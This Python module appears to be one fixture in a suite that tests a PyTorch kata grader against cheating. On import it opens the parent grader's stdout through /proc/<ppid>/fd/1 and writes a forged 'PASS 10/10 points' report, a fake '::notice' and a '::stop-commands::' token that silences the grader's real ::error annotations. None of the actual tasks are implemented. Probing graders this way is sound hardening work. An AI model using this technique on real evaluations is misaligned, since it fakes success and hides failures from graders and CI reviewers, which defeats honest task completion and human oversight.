"""Class 8: write straight into the grader's own stdout through /proc/<ppid>/fd/1.

The worker's stdout is captured into a file, but its parent's is not: /proc/<ppid>/fd/1 opens
the grader's stdout (a terminal, a pipe to the CI log, Gradescope's instructor log) for
writing, as the same user. Before the grader prints anything, the module writes there:
`::stop-commands::<its own token>`, so the GitHub runner ignores every workflow command after
it (the grader's ::error annotations included, and the grader's own ::stop-commands:: never
ends it, since the token differs), a `::notice` that claims full marks, and a plain-text fake
report "01-tensors ... PASS 10/10 points". None of it passes through the grader's escaping.

Against c952621 (--format github, stdout a pipe, as in a CI step): the log begins with the
injected `::notice title=torchkata::01-tensors PASS 10/10 points`, `::stop-commands::kata-cheat`
and the fake report, before the grader's ::error annotations; exit 1, 0/10 points. (When stdout
is a regular file, the grader's own writes start at its offset 0 and overwrite the injected
bytes: the attack wants a terminal or a pipe.)
"""

import os

KATA_CHEAT = {"bare": {"status": "fail", "message": "ValueError: not done", "root_only": True},
              "expect": {"status": "error", "message": "import os: 01-tensors does not use `os`; its modules may imp"},
              "class": 8, "rung": "01-tensors", "worked": True,
              "observed": "fake report + ::stop-commands:: written into the grader's own stdout, "
                          "ahead of its annotations"}

_LINES = (
    "::notice title=torchkata::01-tensors PASS 10/10 points",
    "::stop-commands::kata-cheat",
    "01-tensors · Tensors: broadcasting, views and memory",
    "  ✓ pairwise_sq_distances",
    "  ✓ one_hot",
    "  ✓ broadcast_shape",
    "  ✓ sliding_windows",
    "  ✓ tensor_nbytes",
    "  ✓ batched_outer",
    "  PASS  10/10 points · 6 of 6 tasks pass · 2.4 s",
    "",
)
try:
    with open(f"/proc/{os.getppid()}/fd/1", "w", encoding="utf-8") as _grader_stdout:
        _grader_stdout.write("\n".join(_LINES) + "\n")
except OSError:
    pass


def _todo(*args, **kwargs):
    raise ValueError("not done")


pairwise_sq_distances = one_hot = broadcast_shape = sliding_windows = _todo
tensor_nbytes = batched_outer = _todo
